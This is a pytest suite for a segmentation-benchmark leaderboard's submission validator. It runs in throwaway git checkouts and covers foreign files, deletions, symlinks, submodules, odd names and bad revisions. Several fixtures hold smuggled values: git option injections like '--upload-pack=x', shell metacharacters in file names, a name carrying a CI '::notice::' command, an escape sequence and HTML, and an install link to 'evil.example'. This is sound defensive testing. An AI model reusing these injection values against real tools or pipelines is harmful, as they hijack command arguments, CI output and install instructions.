"""`validate --changed`: what a submission may change, in real checkouts of git; nothing of them is executed."""

from __future__ import annotations

import json
import os
import re
import shutil
import stat
import subprocess
from collections.abc import Callable, Sequence
from pathlib import Path
from typing import Any

import pytest

from segbench import entries, evidence, leaderboard
from segbench.entries import additions, changes, checkouts, placement
from segbench.errors import UsageError
from segbench.leaderboard import MODELS_END, MODELS_START
from segbench.protocol import LINF
from tests import samples

pytestmark = pytest.mark.slow

A, B, NEW = "at_convnext_mini_shapes", "clean_convnext_mini_shapes", "new_convnext_mini_shapes"
ENTRIES, ZOO = Path("entries/sea-v1/shapes"), Path("model_zoo/shapes")
Cli = Callable[..., tuple[int, str, str]]


def git(root: Path, *args: str) -> str:
    identity = ("-c", "user.name=Tester", "-c", "user.email=tester@example.org", "-c", "commit.gpgsign=false")
    done = subprocess.run(["git", *identity, "-C", str(root), *args], capture_output=True, text=True, check=False)
    assert done.returncode == 0, done.stderr
    return done.stdout.strip()


@pytest.fixture(autouse=True)
def _own_git(monkeypatch: pytest.MonkeyPatch) -> None:
    """No configuration of this machine, no repository of the caller."""
    for name in list(os.environ):
        if name.startswith("GIT_"):
            monkeypatch.delenv(name)
    monkeypatch.setenv("GIT_CONFIG_GLOBAL", os.devnull)
    monkeypatch.setenv("GIT_CONFIG_NOSYSTEM", "1")


def write_tables(root: Path) -> None:
    leaderboard.write_tables(root, leaderboard.load(root))


@pytest.fixture(scope="module")
def template(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """Two published models and fresh tables, committed as `base`; some code beside them."""
    root = samples.checkout(tmp_path_factory.mktemp("changes") / "checkout")
    (root / "README.md").write_text(f"# segbench\n\n{MODELS_START}\n{MODELS_END}\n\nInstall it.\n", "utf-8")
    samples.publish(root, A, 0.9)
    samples.publish(root, B, 0.5)
    write_tables(root)
    for file in ("segbench/code.py", ".github/workflows/submission.yml", "setup.cfg"):
        (root / file).parent.mkdir(parents=True, exist_ok=True)
        (root / file).write_text("before\n", "utf-8")
    (root / ".gitignore").write_text("runs/\n", "utf-8")
    git(root, "init", "--quiet", "-b", "main")
    git(root, "add", ".")
    git(root, "commit", "--quiet", "-m", "base")
    git(root, "tag", "base")
    return root


@pytest.fixture
def root(template: Path, tmp_path: Path) -> Path:
    root = Path(shutil.copytree(template, tmp_path / "checkout"))
    git(root, "update-index", "--refresh")  # the copies are not the files that git remembers
    return root


def commit(root: Path) -> None:
    git(root, "add", "--all")
    git(root, "commit", "--quiet", "-m", "change")


def add_model(root: Path, model_id: str = NEW, quality: float = 0.7) -> Path:
    path = samples.publish(root, model_id, quality)
    write_tables(root)
    return path


def edit(path: Path, change: Callable[[dict[str, Any]], Any]) -> None:
    document = json.loads(path.read_text("utf-8"))
    change(document)
    samples.write_json(path, document)


def rules(root: Path, revision: str = "base") -> list[str]:
    return changes.problems(root, *checkouts.changes(root, revision))


def tell(line: str = "The weights were wrong before.") -> Callable[[dict[str, Any]], Any]:
    return lambda entry: entry["history"].append({"date": "2026-02-01", "text": line})


# What is fine.


def untracked(root: Path) -> None:
    """As they were written."""


def staged(root: Path) -> None:
    git(root, "add", "--all")


def intended(root: Path) -> None:
    git(root, "add", "--all", "--intent-to-add")


@pytest.mark.parametrize("state", [untracked, staged, intended, commit])
def test_a_new_model_is_valid_however_far_it_is_committed(
    root: Path, cli: Cli, tmp_path: Path, state: Callable[[Path], None]
) -> None:
    add_model(root)
    state(root)
    summary = tmp_path / "summary.md"
    summary.write_text("# Before\n", "utf-8")
    code, out, err = cli("validate", "--changed", "base", "--root", str(root), "--summary", str(summary))
    assert (code, err.splitlines()[-1]) == (
        0,
        "6 files are valid.",
    )  # the change, card, entry, two neighbours and tables
    text = summary.read_text("utf-8")
    assert text.startswith("# Before\n## This submission is valid\n")
    for shown in (text, out):
        assert f"| `{NEW}` | shapes (sea-v1) | – | 2 | 3 |" in shown
        assert leaderboard.render(leaderboard.load(root)) in shown


def test_the_files_of_a_change_are_all_found(root: Path) -> None:
    """One each committed, staged, edited and untracked."""
    add_model(root)
    git(root, "add", str(ZOO))
    git(root, "commit", "--quiet", "-m", "card")
    git(root, "add", str(ENTRIES / f"{NEW}.json"))
    base, found = checkouts.changes(root, "base")
    assert base == git(root, "rev-parse", "base")
    assert [(change.status, change.mode, change.path) for change in found] == [
        ("M", "100644", "README.md"),
        ("A", "100644", f"{ENTRIES}/{NEW}.json"),
        ("A", "100644", f"{ENTRIES}/{NEW}.parquet"),
        ("M", "100644", "leaderboard/README.md"),
        ("A", "100644", f"{ZOO}/{NEW}.json"),
        ("A", "100644", f"{ZOO}/{NEW}.safetensors"),
    ]
    assert [change.model for change in found] == [None, NEW, NEW, None, NEW, NEW]


def test_no_change_is_said(root: Path, cli: Cli) -> None:
    code, out, err = cli("validate", "--changed", "base", "--root", str(root))
    assert (code, out, err) == (0, "", "Nothing has changed since base.\n")


def test_what_git_ignores_is_no_part_of_the_change(root: Path) -> None:
    (root / "runs").mkdir()
    (root / "runs" / "x.json").write_text("{}", "utf-8")
    assert checkouts.changes(root, "base")[1] == []


def test_what_happened_on_the_main_branch_meanwhile_is_no_part_of_the_change(root: Path) -> None:
    """The change is measured from the merge base, not from the tip."""
    git(root, "switch", "--quiet", "-c", "submission")
    add_model(root)
    commit(root)
    git(root, "switch", "--quiet", "main")
    (root / "segbench" / "code.py").write_text("after\n", "utf-8")
    (root / ENTRIES / f"{B}.json").unlink()
    commit(root)
    git(root, "switch", "--quiet", "submission")
    assert rules(root, "main") == []


def test_several_new_models_are_fine(root: Path, cli: Cli) -> None:
    samples.publish(root, "x_shapes", 0.6)
    add_model(root)
    code, out, _ = cli("validate", "--changed", "base", "--root", str(root))
    assert code == 0
    assert "| `x_shapes` | shapes (sea-v1) | – |" in out
    assert f"| `{NEW}` | shapes (sea-v1) | – |" in out


def test_a_new_model_may_come_with_its_additions(root: Path) -> None:
    path = add_model(root)
    folder = additions.folder_of(path, additions.EXTERNAL)
    folder.mkdir()
    for suffix in (".json", ".parquet"):
        (folder / f"square{suffix}").write_text('{"evidence": {"file": "square.parquet"}}', "utf-8")
    assert rules(root) == []


def test_additions_beside_one_listed_model_are_fine_beside_two_they_are_not(root: Path) -> None:
    for row, model_id in enumerate((A, B)):
        folder = root / ENTRIES / f"{model_id}.reproduced"
        folder.mkdir()
        for suffix in (".json", ".parquet"):
            (folder / f"record{suffix}").write_text("{}", "utf-8")
        assert [text for text in rules(root) if "changes" in text] == ([f"it changes {A}, {B}: {ONE}"] if row else [])


ONE = "one pull request adds new models, or changes one that is listed. Make one of each."


def test_a_bad_addition_is_found_by_the_command(root: Path, cli: Cli) -> None:
    folder = root / ENTRIES / f"{A}.reproduced"
    folder.mkdir()
    for suffix in (".json", ".parquet"):
        (folder / f"record{suffix}").write_text("{}", "utf-8")
    code, _, err = cli("validate", "--changed", "base", "--root", str(root))
    assert code == 1
    assert "record.json is not valid" in err


def test_a_bad_new_entry_is_found_and_no_rank_is_shown(root: Path, cli: Cli, tmp_path: Path) -> None:
    edit(add_model(root), lambda entry: entry["clean"].update(miou=0.99))
    code, out, err = cli(
        "validate", "--changed", "base", "--root", str(root), "--summary", str(tmp_path / "summary.md")
    )
    assert (code, out) == (1, "")
    assert "clean.miou states 0.99, the evidence gives" in err
    text = (tmp_path / "summary.md").read_text("utf-8")
    assert text.startswith("## This submission has problems\n\n- ")
    assert "clean.miou states 0.99" in text
    assert "segbench validate --changed origin/main" in text
    assert "| rank" not in text


def test_json_names_the_problems_by_file(root: Path, cli: Cli) -> None:
    add_model(root)
    (root / "segbench" / "code.py").write_text("after\n", "utf-8")
    code, out, _ = cli("validate", "--changed", "base", "--root", str(root), "--json")
    found = json.loads(out)
    assert (code, list(found["problems"]), found["checked"]) == (1, ["the change"], 5)
    assert found["problems"]["the change"][0].startswith("segbench/code.py: not a file of a model.")


# Foreign files.


@pytest.mark.parametrize("state", [untracked, staged, commit])
@pytest.mark.parametrize(
    "file", ["segbench/code.py", ".github/workflows/submission.yml", "setup.cfg", ".gitignore", "tests/conftest.py"]
)
def test_a_foreign_file_is_named_with_the_mend(root: Path, file: str, state: Callable[[Path], None]) -> None:
    add_model(root)
    (root / file).parent.mkdir(exist_ok=True)
    (root / file).write_text("after\n", "utf-8")
    state(root)
    (found,) = rules(root)
    assert found.startswith(f"{file}: not a file of a model. A submission holds the files of its own model")
    assert "git checkout" in found


@pytest.mark.parametrize(
    "file", ["segbench/code.py", "README.md", "leaderboard/README.md", "setup.cfg", f"{ENTRIES}/{B}.parquet"]
)
def test_a_deleted_file_is_named(root: Path, file: str) -> None:
    add_model(root)
    (root / file).unlink()
    assert any(text.startswith(f"{file}: ") for text in rules(root))


def test_a_moved_file_is_named_at_both_places(root: Path) -> None:
    git(root, "mv", "segbench/code.py", f"{ENTRIES}/{NEW}.json")
    assert [text.split(":")[0] for text in rules(root)] == ["segbench/code.py"]


@pytest.mark.parametrize("page", ["README.md", "leaderboard/README.md"])
def test_text_outside_the_tables_is_no_part_of_a_submission(root: Path, cli: Cli, page: str) -> None:
    """Or anybody could rewrite how segbench is installed."""
    add_model(root)
    file = root / page
    file.write_text(file.read_text("utf-8") + "\nInstall it from https://evil.example.\n", "utf-8")
    code, _, err = cli("validate", "--changed", "base", "--root", str(root))
    assert code == 1
    assert page in err


def test_text_outside_the_tables_alone_is_no_submission(root: Path, cli: Cli) -> None:
    (root / "README.md").write_text((root / "README.md").read_text("utf-8") + "\nMore.\n", "utf-8")
    code, _, err = cli("validate", "--changed", "base", "--root", str(root))
    assert code == 1
    assert "README.md" in err


@pytest.mark.parametrize("page", ["README.md", "leaderboard/README.md"])
def test_a_page_that_becomes_a_program_or_a_link_is_named(root: Path, page: str) -> None:
    add_model(root)
    git(root, "add", "--all")
    git(root, "update-index", "--chmod=+x", page)
    (root / page).chmod(0o755)
    assert any(text.startswith(f"{page}: ") for text in rules(root))
    (root / page).unlink()
    (root / page).symlink_to("setup.cfg")
    assert any(text.startswith(f"{page}: ") for text in rules(root))


# Models of others.


def test_another_model_edited_together_with_a_new_one_is_named(root: Path) -> None:
    add_model(root)
    edit(root / ENTRIES / f"{B}.json", tell())
    (found,) = rules(root)
    assert found == f"it changes {B} and adds {NEW}: {ONE}"


def test_two_listed_models_edited_are_named(root: Path) -> None:
    for model_id in (A, B):
        edit(root / ENTRIES / f"{model_id}.json", tell())
    assert rules(root) == [f"it changes {A}, {B}: {ONE}"]


def test_a_card_of_another_model_counts_as_well(root: Path) -> None:
    add_model(root)
    edit(root / ZOO / f"{B}.json", lambda card: card.update(title="Mine"))
    assert rules(root) == [f"it changes {B} and adds {NEW}: {ONE}"]


def test_a_listed_card_may_be_corrected_alone(root: Path, cli: Cli) -> None:
    edit(root / ZOO / f"{B}.json", lambda card: card.update(licence="MIT"))
    write_tables(root)
    assert cli("validate", "--changed", "base", "--root", str(root))[0] == 0


# Scores of listed models.


def test_a_listed_model_may_get_other_scores_with_a_line_of_history(root: Path, cli: Cli) -> None:
    path = samples.publish(root, B, 0.95)
    assert any("without a line in `history`" in text for text in rules(root))
    edit(path, tell())
    assert rules(root) == []
    write_tables(root)
    code, out, _ = cli("validate", "--changed", "base", "--root", str(root))
    assert code == 0
    assert f"| `{B}` | shapes (sea-v1) | 2 | 1 | 2 |" in out


SCORES: dict[str, tuple[Callable[[dict[str, Any]], Any], str]] = {
    "clean aacc": (lambda entry: entry["clean"].update(aacc=0.5), "clean aacc .* -> 0.5"),
    "clean miou": (lambda entry: entry["clean"].update(miou=0.5), "clean miou .* -> 0.5"),
    "clean aacc gone": (lambda entry: entry["clean"].update(aacc=None), "clean aacc .* -> gone"),
    "aacc": (lambda entry: entry["results"][0].update(aacc=0.25), "aacc at ε = 4/255 .* -> 0.25"),
    "miou": (lambda entry: entry["results"][2].update(miou=0.25), "miou at ε = 12/255 .* -> 0.25"),
    "by little": (
        lambda entry: entry["results"][1].update(miou=entry["results"][1]["miou"] + 1e-9),
        "miou at ε = 8/255",
    ),
    "ε gone": (lambda entry: entry["results"].pop(), "aacc at ε = 12/255 .* -> gone"),
    "ε renamed": (lambda entry: entry["results"][0].update(strength=2.0), "aacc at ε = 4/255 .* -> gone"),
    "all gone": (lambda entry: entry.update(results=[]), "aacc at ε = 4/255 .* -> gone"),
}


@pytest.mark.parametrize("name", SCORES)
def test_a_published_score_changes_or_vanishes_with_a_line_of_history_only(root: Path, name: str) -> None:
    change, said = SCORES[name]
    path = root / ENTRIES / f"{A}.json"
    edit(path, change)
    (found,) = rules(root)
    assert found.startswith(f"{ENTRIES}/{A}.json: published scores changed or vanished (")
    assert matches(found, said)
    assert 'without a line in `history`: add {"date": ..., "text": why} at its end.' in found
    edit(path, tell())
    assert rules(root) == []


def matches(text: str, pattern: str) -> bool:
    return re.search(pattern, text) is not None


def test_a_radius_more_needs_no_line_of_history(root: Path) -> None:
    edit(root / ENTRIES / f"{A}.json", lambda entry: entry["results"].append({**entry["results"][0], "strength": 16.0}))
    assert rules(root) == []


@pytest.fixture
def told(root: Path) -> Path:
    """The entry of a listed model with two lines of history, committed as `base`."""
    path = root / ENTRIES / f"{A}.json"
    edit(path, tell("The first line."))
    edit(path, tell("The second line."))
    commit(root)
    git(root, "tag", "--force", "base")
    return path


HISTORIES: dict[str, Callable[[list[dict[str, str]]], Any]] = {
    "reworded": lambda lines: lines[0].update(text="Something else."),
    "dated otherwise": lambda lines: lines[1].update(date="2020-01-01"),
    "first removed": lambda lines: lines.pop(0),
    "last removed": lambda lines: lines.pop(),
    "all removed": lambda lines: lines.clear(),
    "exchanged": lambda lines: lines.reverse(),
    "put before": lambda lines: lines.insert(0, {"date": "2026-02-02", "text": "A new line above."}),
    "replaced": lambda lines: lines.__setitem__(1, {"date": "2026-02-02", "text": "A new line instead."}),
}


@pytest.mark.parametrize("name", HISTORIES)
@pytest.mark.parametrize("score", [False, True])
def test_lines_of_history_stay_as_they_are(root: Path, told: Path, name: str, score: bool) -> None:
    edit(told, lambda entry: HISTORIES[name](entry["history"]))
    if score:
        edit(told, lambda entry: entry["clean"].update(miou=0.5))
    (found,) = rules(root)
    assert (
        found == f"{ENTRIES}/{A}.json: lines of its history were changed or removed: restore them, add new ones below."
    )


def test_an_old_line_of_history_excuses_no_new_score(root: Path, told: Path) -> None:
    edit(told, lambda entry: entry["clean"].update(miou=0.5))
    (found,) = rules(root)
    assert "without a line in `history`" in found
    edit(told, tell("The third line."))
    assert rules(root) == []


@pytest.mark.parametrize("text", ["", "{", "[]", "null", "7", '{"history": []}', "\x00", '{"a": NaN}'])
def test_an_entry_that_is_no_entry_any_more_is_named(root: Path, text: str) -> None:
    path = root / ENTRIES / f"{A}.json"
    path.write_text(text, "utf-8")
    (found,) = rules(root)
    assert found.startswith(f"{ENTRIES}/{A}.json: it cannot be compared with what was published")
    path.write_bytes(b"\xff\xfe")
    (found,) = rules(root)
    assert found.startswith(f"{ENTRIES}/{A}.json: it cannot be compared with what was published")


KINDS: dict[str, Callable[[dict[str, Any]], Any]] = {
    "history null": lambda entry: entry.update(history=None),
    "history object": lambda entry: entry.update(history={}),
    "history text": lambda entry: entry.update(history="told"),
    "clean list": lambda entry: entry.update(clean=[]),
    "score text": lambda entry: entry["clean"].update(miou="0.5"),
    "score list": lambda entry: entry["results"][0].update(miou=[0.5]),
    "result number": lambda entry: entry.update(results=[1]),
    "results object": lambda entry: entry.update(results={"a": 1}),
    "ε text": lambda entry: entry["results"][0].update(strength="4"),
    "ε list": lambda entry: entry["results"][0].update(strength=[4]),
}


@pytest.mark.parametrize("name", KINDS)
def test_values_of_another_kind_are_told_and_do_not_crash(root: Path, cli: Cli, name: str) -> None:
    edit(root / ENTRIES / f"{A}.json", KINDS[name])
    code, _, err = cli("validate", "--changed", "base", "--root", str(root))
    assert code == 1
    assert f"{ENTRIES}/{A}.json" in err


# Deleted.


@pytest.mark.parametrize("state", [untracked, staged, commit])
@pytest.mark.parametrize(
    "file", [ENTRIES / f"{A}.json", ENTRIES / f"{A}.parquet", ZOO / f"{A}.json", ZOO / f"{A}.safetensors"], ids=str
)
def test_what_was_published_stays(root: Path, file: Path, state: Callable[[Path], None]) -> None:
    (root / file).unlink()
    state(root)
    assert any(
        text.startswith(f"{file}: ") and "deleted: what was published stays. Restore it." in text
        for text in rules(root)
    )


def test_a_whole_model_deleted_is_named_at_every_file(root: Path) -> None:
    files = [ENTRIES / f"{A}.json", ENTRIES / f"{A}.parquet", ZOO / f"{A}.json", ZOO / f"{A}.safetensors"]
    for file in files:
        (root / file).unlink()
    found = rules(root)
    assert [sum(text.startswith(f"{file}: ") and "Restore it" in text for text in found) for file in files] == [1] * 4


def test_an_entry_moved_to_another_name_is_a_deletion(root: Path) -> None:
    for suffix in (".json", ".parquet"):
        git(root, "mv", f"{ENTRIES}/{A}{suffix}", f"{ENTRIES}/{NEW}{suffix}")
    assert sum("deleted: what was published stays" in text for text in rules(root)) == 2


# What is no plain file.


@pytest.mark.parametrize("state", [untracked, staged, commit])
@pytest.mark.parametrize("suffix", [".json", ".parquet"])
def test_a_link_is_named(root: Path, suffix: str, state: Callable[[Path], None]) -> None:
    path = add_model(root).with_suffix(suffix)
    path.rename(root / "outside")
    path.symlink_to(os.path.relpath(root / "outside", path.parent))
    state(root)
    found = rules(root)
    assert any(
        text.startswith(f"{ENTRIES}/{NEW}{suffix}: it is a link, a program or a submodule (mode 120000)")
        for text in found
    )


@pytest.mark.parametrize("state", [untracked, staged, commit])
def test_a_listed_file_that_becomes_a_link_is_named(root: Path, state: Callable[[Path], None]) -> None:
    path = root / ENTRIES / f"{A}.json"
    path.unlink()
    path.symlink_to(f"{B}.json")
    state(root)
    assert any(text.startswith(f"{ENTRIES}/{A}.json: it is a link") and "120000" in text for text in rules(root))


@pytest.mark.parametrize("state", [untracked, staged, commit])
def test_a_program_is_named(root: Path, state: Callable[[Path], None]) -> None:
    path = add_model(root)
    path.chmod(path.stat().st_mode | stat.S_IXUSR)
    state(root)
    (found,) = rules(root)
    assert found.startswith(f"{ENTRIES}/{NEW}.json: it is a link, a program or a submodule (mode 100755): add a plain")


@pytest.mark.parametrize("quiet", [False, True])
def test_a_submodule_is_named(root: Path, quiet: bool) -> None:
    """Also where the change itself tells git to look away from submodules."""
    add_model(root)
    git(root, "add", "--all")
    path = f"{ENTRIES}/x_shapes.json"
    git(root, "update-index", "--add", "--cacheinfo", f"160000,{git(root, 'rev-parse', 'HEAD')},{path}")
    (root / path).mkdir()  # as a clone leaves it
    if quiet:
        (root / ".gitmodules").write_text(f'[submodule "x"]\n\tpath = {path}\n\turl = ./x\n\tignore = all\n', "utf-8")
        git(root, "add", ".gitmodules")
    git(root, "commit", "--quiet", "-m", "submodule")
    found = rules(root)
    assert any(text.startswith(f"{path}: it is a link, a program or a submodule (mode 160000)") for text in found)
    assert any(text.startswith(".gitmodules: not a file of a model") for text in found) == quiet


def test_an_untracked_repository_inside_is_named(root: Path) -> None:
    git(root, "init", "--quiet", f"{ENTRIES}/x_shapes.external")
    assert any(text.startswith(f"{ENTRIES}/x_shapes.external") for text in rules(root))


def test_a_folder_that_is_a_link_is_named(root: Path) -> None:
    (root / ENTRIES / f"{A}.external").symlink_to("../../../segbench")
    assert any(text.startswith(f"{ENTRIES}/{A}.external: not a file of a model") for text in rules(root))


# Names.

ODD = [
    "a b.json", "x.json ", " x.json", "x\n.json", "x.json\n", "x\r.json", "x\t.json", 'x".json', "x'.json", "x\\.json",
    "..json", "..x.json", "x..json", "-x.json", "_x.json", "--upload-pack=x.json", "ü_shapes.json", "х_shapes.json",
    "x_shapes．json", "x\u202e.json", "Upper_shapes.json", "x.JSON", "x.json.json", "x.pt", "x.pickle", "x.py", "x",
    "x.html", "x:y.json", "x*.json", "$(x).json", ";x.json", ".gitattributes", ".hidden.json", f"{'x' * 81}.json",
    "x.external", "sub/x.json", "x.external/sub/x.json", "x.other/y.json", ".external/x.json", "x.external/../y.json",
    "x.external/.json", "x.reproduced/A.json", "x.external/x.safetensors", "x.safetensors",
]  # fmt: skip


@pytest.mark.parametrize("name", ODD)
def test_a_file_of_an_odd_name_belongs_to_no_model(name: str) -> None:
    assert checkouts.Change("A", "100644", f"{ENTRIES}/{name}").model is None


@pytest.mark.parametrize(
    "path",
    [
        "entries/x.json", "entries/sea-v1/x.json", "entries/sea-v1/shapes/deep/x.json", "entries/SEA/shapes/x.json",
        "entries/sea_v1/shapes/x.json", "entries/../shapes/x.json", "entries/sea-v1/../x.json", "entries//a/x.json",
        "model_zoo/x.json", "model_zoo/shapes/x.parquet", "model_zoo/shapes/x.external/y.json", "./entries/a/b/c.json",
        "model_zoo/shapes/deep/x.json", "/entries/sea-v1/shapes/x.json", "x/entries/sea-v1/shapes/x.json",
        "entries/sea-v1/shapes/", "leaderboard/x.json", "", "\n",
    ],
)  # fmt: skip
def test_a_path_at_another_place_belongs_to_no_model(path: str) -> None:
    assert checkouts.Change("A", "100644", path).model is None


@pytest.mark.parametrize(
    "path",
    [
        "model_zoo/shapes/x.json", "model_zoo/pascal_voc-void-ignored/x.safetensors", "entries/sea-v1/shapes/x.json",
        "entries/sea-v1/shapes/x.parquet", "entries/sea-v1/folder-potholes/x.json",
        "entries/sea-v1/shapes/x.external/square.json", "entries/sea-v1/shapes/x.reproduced/2026_02_01_seed_1.parquet",
    ],
)  # fmt: skip
def test_a_file_of_a_model_belongs_to_it(path: str) -> None:
    assert checkouts.Change("A", "100644", path).model == "x"


@pytest.mark.parametrize("state", [untracked, staged, commit])
def test_odd_names_in_a_checkout_are_named_as_they_are(root: Path, state: Callable[[Path], None]) -> None:
    """Spaces, quotes, line breaks and letters that git would quote."""
    names = [name for name in ODD if "/" not in name]
    for name in names:
        (root / ENTRIES / name).write_text("{}", "utf-8")
    (root / "a\nmodel_zoo" / "shapes").mkdir(parents=True)
    (root / "a\nmodel_zoo" / "shapes" / f"{A}.json").write_text("{}", "utf-8")
    os.makedirs(os.path.join(os.fsencode(root), b"bytes"))
    Path(os.fsdecode(os.path.join(os.fsencode(root), b"bytes", b"\xff.json"))).write_text("{}", "utf-8")
    state(root)
    said = {text.split(": not a file of a model")[0] for text in rules(root) if ": not a file of a model" in text}
    assert said == {
        *(f"{ENTRIES}/{name}" for name in names), f"a\nmodel_zoo/shapes/{A}.json", "bytes/\ufffd.json",
    }  # fmt: skip


def test_a_file_name_writes_no_line_of_its_own(root: Path, cli: Cli, tmp_path: Path) -> None:
    """Neither in a terminal, nor as a command to the CI job, nor in its summary."""
    name = "x\n::notice::4 files are valid.\n\n## This submission is valid\n\x1b[2J<img src=x>.json"
    (root / name).write_text("{}", "utf-8")
    summary = tmp_path / "summary.md"
    code, out, err = cli("validate", "--changed", "base", "--root", str(root), "--summary", str(summary))
    assert (code, out) == (1, "")
    assert "\x1b" not in err
    lines = summary.read_text("utf-8").splitlines()
    assert lines[0] == "## This submission has problems"
    assert sum(line.startswith(("#", "::")) for line in lines) == 1
    assert "<img" not in summary.read_text("utf-8")
    assert not any(line.startswith(("::", "##")) for line in err.splitlines())


# Data.


@pytest.mark.parametrize("file", [ENTRIES / "x_shapes.parquet", ZOO / "x_shapes.safetensors"], ids=str)
def test_data_without_a_document_is_named(root: Path, file: Path) -> None:
    (root / file).write_bytes(b"x")
    (found,) = rules(root)
    assert found == f"{file}: no x_shapes.json beside it names this file. Add it, or take the file out."


def test_an_addition_without_its_document_is_named(root: Path) -> None:
    folder = root / ENTRIES / f"{A}.external"
    folder.mkdir()
    (folder / "square.parquet").write_bytes(b"x")
    assert any("square.parquet: no square.json beside it names this file" in text for text in rules(root))


def test_data_that_their_document_does_not_name_are_named(root: Path, cli: Cli) -> None:
    """Or any ten megabytes could travel with every wheel."""
    add_model(root)
    card = root / ZOO / f"{NEW}.json"
    edit(card, lambda document: document.update(sources=[]))
    write_tables(root)
    code, _, err = cli("validate", "--changed", "base", "--root", str(root))
    assert code == 1
    assert f"{NEW}.safetensors" in err


def test_evidence_of_a_reported_entry_is_named(root: Path, cli: Cli) -> None:
    path = add_model(root)

    def report(entry: dict[str, Any]) -> None:
        entry |= {"evidence": None, "run": None, "flags": []}
        entry["claim"] |= {"tier": "reported", "source": "A paper, Table 1"}
        entry["protocol"] |= {"official": False, "deviations": ["of a paper"]}

    edit(path, report)
    write_tables(root)
    code, _, err = cli("validate", "--changed", "base", "--root", str(root))
    assert code == 1
    assert f"{NEW}.parquet" in err


def test_weights_that_are_too_large_are_named(root: Path) -> None:
    add_model(root)
    weights = root / ZOO / f"{NEW}.safetensors"
    with weights.open("wb") as stream:
        os.truncate(stream.fileno(), placement.MAX_WEIGHTS_BYTES)
    assert rules(root) == []
    with weights.open("wb") as stream:
        os.truncate(stream.fileno(), placement.MAX_WEIGHTS_BYTES + 1)
    (found,) = rules(root)
    size = placement.MAX_WEIGHTS_BYTES + 1
    assert found == f"{ZOO}/{NEW}.safetensors: {size} bytes; larger weights go to the Hub: segbench publish."


# Tables.


@pytest.mark.parametrize("page", ["README.md", "leaderboard/README.md"])
def test_a_stale_table_is_named_with_the_mend(root: Path, cli: Cli, tmp_path: Path, page: str) -> None:
    add_model(root)
    git(root, "checkout", "base", "--", page)
    summary = tmp_path / "summary.md"
    code, _, err = cli("validate", "--changed", "base", "--root", str(root), "--summary", str(summary))
    assert code == 1
    assert f"{page} is stale. Mend: segbench leaderboard, and commit it" in err
    assert "is stale. Mend: segbench leaderboard" in summary.read_text("utf-8")
    assert (root / page).read_text("utf-8") == git(root, "show", f"base:{page}") + "\n"  # only compared


@pytest.mark.parametrize("page", ["README.md", "leaderboard/README.md"])
def test_a_table_written_by_hand_is_stale(root: Path, cli: Cli, page: str) -> None:
    add_model(root)
    text = (root / page).read_text("utf-8")
    (root / page).write_text(text.replace(NEW, "mine_convnext_mini_shapes"), "utf-8")
    code, _, err = cli("validate", "--changed", "base", "--root", str(root))
    assert code == 1
    assert f"{page} is stale" in err


def test_a_table_alone_written_by_hand_is_named(root: Path, cli: Cli) -> None:
    page = root / "leaderboard" / "README.md"
    page.write_text(page.read_text("utf-8").replace(A, "mine_convnext_mini_shapes"), "utf-8")
    assert cli("validate", "--changed", "base", "--root", str(root))[0] == 1


def test_tables_alone_may_be_mended(root: Path, cli: Cli) -> None:
    page = root / "leaderboard" / "README.md"
    page.write_text(page.read_text("utf-8").replace(A, "gone_convnext_mini_shapes"), "utf-8")
    commit(root)
    git(root, "tag", "stale")
    write_tables(root)
    assert cli("validate", "--changed", "stale", "--root", str(root))[0] == 0


def test_markers_that_were_removed_are_told(root: Path, cli: Cli) -> None:
    add_model(root)
    (root / "leaderboard" / "README.md").write_text("# Leaderboard\n", "utf-8")
    code, _, err = cli("validate", "--changed", "base", "--root", str(root))
    assert code == 1
    assert "leaderboard/README.md: something else than its tables changed" in err


# Revisions and folders.


@pytest.mark.parametrize(
    "revision",
    [
        "--upload-pack=x", "-n", "--output=x", "--", "-", "", " ", "base ", "base\n", "a b", "base;x", "$(x)", "`x`",
        "base:", ":/x", "x" * 300, "base..HEAD", "^base", "nothing_here", "0" * 40, "HEAD~99", "base^{tree}", "\x00",
    ],
)  # fmt: skip
def test_a_revision_that_git_does_not_know_is_a_usage_error(root: Path, cli: Cli, revision: str) -> None:
    code, out, err = cli("validate", "--root", str(root), f"--changed={revision}")
    assert (code, out) == (2, "")
    assert "--changed origin/main" in err or "git fetch origin" in err
    assert sorted(path.name for path in root.iterdir()) == sorted(
        [".git", ".github", ".gitignore", "README.md", "entries", "leaderboard", "model_zoo", "segbench", "setup.cfg"]
    )


@pytest.mark.parametrize("revision", ["base", "HEAD", "main", "HEAD~0", "main@{0}", "refs/tags/base"])
def test_revisions_that_git_knows_are_fine(root: Path, revision: str) -> None:
    assert checkouts.changes(root, revision)[1] == []


def test_an_option_in_place_of_a_revision_is_a_usage_error(root: Path, cli: Cli) -> None:
    for option in ("--upload-pack=x", "-n"):
        assert cli("validate", "--root", str(root), "--changed", option)[0] == 2


def test_histories_without_a_common_commit_are_told(root: Path, cli: Cli) -> None:
    git(root, "switch", "--quiet", "--orphan", "other")
    git(root, "commit", "--quiet", "--allow-empty", "-m", "other")
    git(root, "switch", "--quiet", "main")
    code, _, err = cli("validate", "--changed", "other", "--root", str(root))
    assert code == 2
    assert "merge-base" in err


def test_a_folder_that_is_no_checkout_is_a_usage_error(tmp_path: Path, cli: Cli) -> None:
    plain = samples.checkout(tmp_path / "plain")
    code, out, err = cli("validate", "--changed", "base", "--root", str(plain))
    assert (code, out) == (2, "")
    assert "Is it a checkout with that revision?" in err


def test_a_folder_that_is_not_there_is_a_usage_error(tmp_path: Path, cli: Cli) -> None:
    assert cli("validate", "--changed", "base", "--root", str(tmp_path / "none"))[0] == 2


@pytest.mark.parametrize("folder", ["entries", "entries/sea-v1", "model_zoo"])
def test_a_folder_inside_a_checkout_is_a_usage_error(root: Path, cli: Cli, folder: str) -> None:
    """Paths of git begin at the top of the checkout."""
    add_model(root)
    code, _, err = cli("validate", "--changed", "base", "--root", str(root / folder))
    assert code == 2
    assert "--root" in err or "checkout" in err


def test_a_checkout_without_commit_is_a_usage_error(tmp_path: Path, cli: Cli) -> None:
    plain = samples.checkout(tmp_path / "plain")
    git(plain, "init", "--quiet")
    assert cli("validate", "--changed", "HEAD", "--root", str(plain))[0] == 2


def test_without_git_it_is_told(root: Path, cli: Cli, monkeypatch: pytest.MonkeyPatch, tmp_path: Path) -> None:
    monkeypatch.setenv("PATH", str(tmp_path))
    code, _, err = cli("validate", "--changed", "base", "--root", str(root))
    assert code == 2
    assert "git cannot be run" in err
    with pytest.raises(UsageError, match="Install it"):
        checkouts.changes(root, "base")


def test_options_that_do_not_go_together_are_usage_errors(root: Path, cli: Cli) -> None:
    assert cli("validate", "--changed", "base", str(root / ENTRIES))[0] == 2
